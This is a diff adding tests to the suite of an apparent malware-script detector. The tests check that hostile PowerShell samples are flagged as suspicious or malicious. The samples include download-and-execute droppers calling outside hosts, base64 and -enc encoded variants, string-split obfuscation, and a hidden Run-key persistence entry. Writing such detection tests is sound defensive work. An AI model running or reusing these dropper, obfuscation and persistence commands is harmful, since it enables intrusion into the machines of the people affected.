@@ -204,3 +204,31 @@ async def test_reloading_with_a_broken_sigma_rule_keeps_the_others_and_names_it(
     assert inspector.analysis_version != before
     assert [p.path for p in inspector.ruleset.sigma.errors] == [str(sigma / "broken.yml")]
     assert "sigma.6e5d4c3b-2a19-4807-9f6e-5d4c3b2a1908" in {f.id for f in result.verdict.findings}
+
+
+def _b64_iex(script: str) -> str:
+    blob = base64.b64encode(script.encode()).decode()
+    return f"iex ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('{blob}')))"
+
+
+_DROPPER = "Invoke-WebRequest -Uri https://files.example.net/x.exe -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe"
+
+
+@pytest.mark.parametrize("script", [
+    '(New-Object System.Net.WebClient).DownloadFile("http://203.0.113.7/a.exe","$env:TEMP\\a.exe"); '
+    'Start-Process "$env:TEMP\\a.exe"',
+    _DROPPER,
+    _b64_iex(_DROPPER),
+    "powershell -enc " + base64.b64encode(_DROPPER.encode("utf-16-le")).decode(),
+    "$a='Down'+'loadStr'+'ing';$w=New-Object ('Net.'+'WebC'+'lient');iex ($w.$a('http://91.215.85.17/s'))",
+    '$RunKey = "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"; Set-ItemProperty -Path $RunKey -Name upd '
+    '-Value "powershell.exe -windowstyle hidden -ExecutionPolicy Bypass -File C:\\Users\\Public\\u.ps1"',
+])
+async def test_the_clean_examples_of_issue_14_are_flagged(offline_settings, script: str) -> None:  # type: ignore[no-untyped-def]
+    inspector = await Inspector.start(offline_settings, workers=0)
+    try:
+        result = await inspector.inspect(InspectionInput(kind=InputKind.SCRIPT, content=script.encode(),
+                                                         filename="x.ps1"))
+    finally:
+        await inspector.close()
+    assert result.verdict.verdict in (VerdictClass.SUSPICIOUS, VerdictClass.MALICIOUS)
